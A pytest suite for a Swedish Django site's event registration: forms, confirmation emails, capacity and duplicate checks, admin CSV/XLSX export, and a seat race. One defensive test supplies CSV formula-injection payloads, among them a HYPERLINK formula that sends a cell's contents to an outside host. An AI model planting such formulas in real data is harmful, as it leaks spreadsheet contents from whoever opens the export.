import csv
import io
import threading
import time
from datetime import timedelta

import pytest
from django.db import connection, connections
from django.test import TestCase
from django.utils import timezone
from icalendar import Calendar

from home.models import EventPage, EventRegistration
from tests.forum.factories import UserFactory
from tests.home.factories import EventIndexPageFactory, EventPageFactory, EventRegistrationFactory

FORM = {"name": "Maja Lind", "email": "maja.lind@example.se", "organisation": "Lind & Son Fastigheter AB"}


@pytest.fixture
def event(home_page):
    index = EventIndexPageFactory(parent=home_page)
    return EventPageFactory(
        parent=index, title="Dialogmöte om samhällsbyggnad", slug="dialogmote", place="Huddinge kommunhus", capacity=30
    )


def register(client, data=None):
    """Posts the form; the confirmation goes out when the registration commits, as in production."""
    with TestCase.captureOnCommitCallbacks(execute=True):
        return client.post("/aktiviteter/dialogmote/anmalan/", data or FORM)


def test_the_form_is_on_the_event_page_and_posts_to_its_route(client, event):
    html = client.get("/aktiviteter/dialogmote/").content.decode()

    assert '<form class="form" method="post" action="/aktiviteter/dialogmote/anmalan/#anmalan" novalidate>' in html
    assert '<label for="id_name">Namn:</label>' in html
    assert '<label for="id_email">E-postadress:</label>' in html
    assert '<label for="id_organisation">Organisation:</label>' in html


def test_the_form_is_prefilled_for_a_logged_in_user(client, event):
    client.force_login(UserFactory(first_name="Kim", last_name="Andersson", email="kim@example.se"))

    html = client.get("/aktiviteter/dialogmote/").content.decode()

    assert 'value="Kim Andersson"' in html
    assert 'value="kim@example.se"' in html


def test_registration_is_stored_confirmed_and_e_mailed(client, event, mailoutbox):
    response = register(client)

    assert response.status_code == 200
    html = response.content.decode()
    assert "Tack, Maja Lind! Din anmälan är bekräftad." in html
    assert "Vi har skickat en bekräftelse till maja.lind@example.se." in html
    registration = EventRegistration.objects.get()
    assert (registration.event_id, registration.name, registration.email, registration.organisation) == (
        event.pk,
        "Maja Lind",
        "maja.lind@example.se",
        "Lind & Son Fastigheter AB",
    )
    assert len(mailoutbox) == 1
    message = mailoutbox[0]
    assert message.to == ["maja.lind@example.se"]
    assert message.subject == "Du är anmäld till Dialogmöte om samhällsbyggnad"
    assert event.time_display in message.body
    assert "Var: Huddinge kommunhus" in message.body
    assert "http://testserver/aktiviteter/dialogmote/" in message.body
    filename, content, mimetype = message.attachments[0]
    assert (filename, mimetype) == ("dialogmote.ics", "text/calendar")
    assert Calendar.from_ical(content).events[0]["SUMMARY"] == "Dialogmöte om samhällsbyggnad"


def test_a_full_event_refuses_and_keeps_what_was_typed(client, event, mailoutbox):
    event.capacity = 1
    event.save_revision().publish()
    EventRegistrationFactory(event=event)

    html = register(client).content.decode()

    assert "Evenemanget är fullbokat." in html
    assert 'value="Maja Lind"' in html
    assert 'value="maja.lind@example.se"' in html
    assert 'value="Lind &amp; Son Fastigheter AB"' in html
    assert EventRegistration.objects.count() == 1
    assert mailoutbox == []


def test_a_full_event_without_an_open_form_says_so(client, event):
    event.capacity = 1
    event.save_revision().publish()
    EventRegistrationFactory(event=event)

    html = client.get("/aktiviteter/dialogmote/").content.decode()

    assert "Evenemanget är fullbokat." in html
    assert "/anmalan/" not in html  # no registration form


def test_the_same_e_mail_address_cannot_register_twice(client, event, mailoutbox):
    EventRegistrationFactory(event=event, email="maja.lind@example.se")

    html = register(client, {**FORM, "email": "Maja.Lind@Example.se"}).content.decode()

    assert '<ul class="errorlist" id="id_email_error"><li>Den här e-postadressen är redan anmäld.</li></ul>' in html
    assert 'aria-invalid="true" aria-describedby="id_email_error"' in html
    assert 'value="Maja.Lind@Example.se"' in html
    assert EventRegistration.objects.count() == 1
    assert mailoutbox == []


def test_an_already_registered_address_hears_so_even_when_the_event_is_full(client, event):
    event.capacity = 1
    event.save_revision().publish()
    EventRegistrationFactory(event=event, email="maja.lind@example.se")

    html = register(client).content.decode()

    assert "Den här e-postadressen är redan anmäld." in html
    assert "Evenemanget är fullbokat." not in html


def test_the_same_address_may_register_for_another_event(client, event):
    other = EventPageFactory(parent=event.get_parent(), slug="seminarium")
    EventRegistrationFactory(event=other, email="maja.lind@example.se")

    register(client)

    assert EventRegistration.objects.filter(email="maja.lind@example.se").count() == 2


def test_a_cancelled_event_refuses_registrations(client, event, mailoutbox):
    event.status = EventPage.Status.CANCELLED
    event.save_revision().publish()

    html = register(client).content.decode()

    assert "Evenemanget är inställt och tar inte emot anmälningar." in html
    assert 'value="Maja Lind"' in html
    assert not EventRegistration.objects.exists()
    assert mailoutbox == []


def test_an_event_that_has_begun_refuses_registrations(client, event):
    event.start = timezone.now() - timedelta(hours=1)
    event.end = timezone.now() + timedelta(hours=1)
    event.save_revision().publish()

    html = register(client).content.decode()

    assert "Evenemanget har redan ägt rum, så det går inte längre att anmäla sig." in html
    assert not EventRegistration.objects.exists()


@pytest.mark.parametrize(
    ("data", "field", "error"),
    [
        ({**FORM, "email": "maja.lind@"}, "email", "Fyll i en giltig e-postadress."),
        ({**FORM, "name": ""}, "name", "Det här fältet är obligatoriskt"),
        ({**FORM, "name": "   "}, "name", "Det här fältet är obligatoriskt"),
        ({**FORM, "organisation": "AB" * 76}, "organisation", "Säkerställ att detta värde har som mest 150 tecken"),
    ],
)
def test_invalid_input_is_shown_next_to_the_field_and_nothing_is_stored(client, event, mailoutbox, data, field, error):
    response = register(client, data)

    html = response.content.decode()
    assert response.status_code == 200
    assert f'<ul class="errorlist" id="id_{field}_error"><li>{error}' in html
    assert "Anmälan kunde inte tas emot. Rätta det som är markerat nedan." in html
    assert not EventRegistration.objects.exists()
    assert mailoutbox == []


def test_the_registration_route_only_takes_posts(client, event):
    response = client.get("/aktiviteter/dialogmote/anmalan/")

    assert response.status_code == 302
    assert response["Location"] == "/aktiviteter/dialogmote/"


def test_an_editor_can_export_the_registrations_as_csv(client, event):
    other = EventPageFactory(parent=event.get_parent(), title="Årsmöte", slug="arsmote")
    EventRegistrationFactory(event=event, name="Maja Lind", email="maja@example.se", organisation="Huddinge kommun")
    EventRegistrationFactory(event=event, name="Olle Berg", email="olle@example.se", organisation="")
    EventRegistrationFactory(event=other, name="Sara Ek", email="sara@example.se")
    client.force_login(UserFactory(is_superuser=True, is_staff=True))

    response = client.get(f"/admin/anmalningar/?event={event.pk}&export=csv")

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="anmalningar.csv"' in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert rows[0] == ["Evenemang", "Namn", "E-postadress", "Organisation", "Anmäld"]
    assert [row[:4] for row in rows[1:]] == [
        ["Dialogmöte om samhällsbyggnad", "Maja Lind", "maja@example.se", "Huddinge kommun"],
        ["Dialogmöte om samhällsbyggnad", "Olle Berg", "olle@example.se", ""],
    ]


@pytest.mark.parametrize("typed", ['=HYPERLINK("https://example.com/?"&B2,"Klicka")', "+46 8 123", "-1+1", "@SUM(1)"])
def test_exported_csv_cells_never_start_a_formula(client, event, typed):
    EventRegistrationFactory(event=event, name=typed, email="maja@example.se", organisation=typed)
    client.force_login(UserFactory(is_superuser=True, is_staff=True))

    response = client.get(f"/admin/anmalningar/?event={event.pk}&export=csv")

    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert rows[1][1] == rows[1][3] == "'" + typed


def test_an_editor_can_search_the_registrations_and_export_xlsx(client, event):
    EventRegistrationFactory(event=event, name="Maja Lind", email="maja@example.se")
    EventRegistrationFactory(event=event, name="Olle Berg", email="olle@example.se")
    client.force_login(UserFactory(is_superuser=True, is_staff=True))

    html = client.get("/admin/anmalningar/?q=olle").content.decode()
    xlsx = client.get("/admin/anmalningar/?export=xlsx")

    assert "Olle Berg" in html
    assert "Maja Lind" not in html
    assert xlsx["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def test_registrations_are_not_for_visitors(client, event):
    response = client.get("/admin/anmalningar/?export=csv")

    assert response.status_code == 302
    assert response["Location"].startswith("/admin/login/")


# Serialized rollback restores what data migrations created (groups, forum grants) after the flush.
@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_two_people_racing_for_the_last_seat_only_one_gets_it(home_page, monkeypatch):
    if connection.vendor != "postgresql":
        pytest.skip("SQLite has no row locks (SELECT ... FOR UPDATE); the race is tested on PostgreSQL.")
    index = EventIndexPageFactory(parent=home_page)
    event = EventPageFactory(parent=index, slug="sista-platsen", capacity=1)
    # Widen the window between counting the seats and taking one, so that without the row lock
    # both threads would count zero and both register.
    seats_taken = EventPage.seats_taken

    def slow_seats_taken(self):
        taken = seats_taken(self)
        time.sleep(0.5)
        return taken

    monkeypatch.setattr(EventPage, "seats_taken", slow_seats_taken)
    start_together = threading.Barrier(2)
    outcomes = []

    def register_in_thread(email):
        try:
            start_together.wait()
            EventPage.objects.get(pk=event.pk).register(name="Deltagare", email=email)
            outcomes.append("anmäld")
        except Exception as refusal:
            outcomes.append(str(refusal))
        finally:
            connections.close_all()

    threads = [threading.Thread(target=register_in_thread, args=(f"person{n}@example.se",)) for n in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()

    assert sorted(outcomes) == ["Evenemanget är fullbokat.", "anmäld"]
    assert EventRegistration.objects.filter(event=event).count() == 1


def test_a_failing_mail_server_does_not_lose_the_registration(client, event, monkeypatch):
    def refuse(*args, **kwargs):
        raise ConnectionRefusedError("SMTP-servern svarar inte")

    monkeypatch.setattr("django.core.mail.EmailMessage.send", refuse)

    response = register(client)

    assert response.status_code == 200
    assert "Tack, Maja Lind! Din anmälan är bekräftad." in response.content.decode()
    assert EventRegistration.objects.filter(email="maja.lind@example.se").exists()
